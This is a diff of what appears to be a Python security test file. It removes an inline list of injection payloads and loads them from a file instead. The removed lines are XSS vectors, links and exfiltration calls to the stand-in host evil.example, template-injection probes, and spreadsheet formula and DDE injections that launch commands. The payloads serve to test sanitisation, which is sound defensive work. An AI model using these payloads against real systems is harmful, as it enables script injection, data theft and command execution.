@@ -22,33 +22,8 @@ from projects import INDICATORS, make_project
 from real_project import ROOT, run
 from small import observations, toml
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<img src=https://evil.example/p.png onerror=alert(1)>",
-    '"><svg onload=alert(1)><animate onbegin=alert(1)></svg>',
-    "' autofocus onfocus='alert(1)' x='",
-    "<iframe src=//evil.example></iframe>",
-    "</td></table></main><h1 id=taken>taken</h1>",
-    "[click](javascript:alert(1))",
-    "![pixel](https://evil.example/p.png)",
-    "<https://evil.example/auto> [ref]: https://evil.example",
-    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "<style>*{background:url(https://evil.example)}</style>",
-    "<base href=https://evil.example><meta http-equiv=refresh content=0;url=https://evil.example>",
-    "<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>",
-    "]]><![CDATA[<script>alert(1)</script>",
-    "<math><mtext><a xlink:href=javascript:alert(1)>x</a></mtext></math>",
-    "\\(\\href{javascript:alert(1)}{x}\\) $$\\unicode{x}$$",
-    "\u202egpj.exe\u202c\u200b",
-    "%7B%7B7*7%7D%7D ${7*7} <%= 7*7 %> #[[7*7]]",
-    '=HYPERLINK("https://evil.example","x")',
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "=WEBSERVICE(\"https://evil.example\")&'file'#$A1",
-]
+ATTACKS = (Path(__file__).parent / "attacks.txt").read_text(encoding="utf-8").splitlines()
+ATTACKS += ["\u202egpj.exe\u202c\u200b", "\t=1+1"]
 BRACES = ["{{ 7*7 }}", "{% raw %}", "{tilgang@2023|__class__}", "{0.__class__}", "{", "}"]
 LETTERS = "ABCDEF"  # of the sub-goals
 ALL = " ".join(ATTACKS)
